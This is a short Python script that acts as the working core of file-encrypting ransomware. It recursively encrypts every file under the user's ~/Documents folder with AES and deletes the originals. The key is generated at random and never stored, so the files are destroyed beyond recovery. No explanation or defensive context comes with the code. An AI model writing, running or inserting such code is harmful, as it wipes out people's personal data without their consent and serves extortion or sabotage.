import glob
import os

from Crypto.Cipher import AES
from Crypto.Random import get_random_bytes

KEY = get_random_bytes(32)


def encrypt_file(path):
    cipher = AES.new(KEY, AES.MODE_EAX)
    with open(path, "rb") as fh:
        plain = fh.read()
    ct, tag = cipher.encrypt_and_digest(plain)
    with open(path + ".crypt", "wb") as out:
        out.write(cipher.nonce + tag + ct)
    os.remove(path)


for path in glob.glob(os.path.expanduser("~/Documents/**/*"), recursive=True):
    if os.path.isfile(path):
        encrypt_file(path)
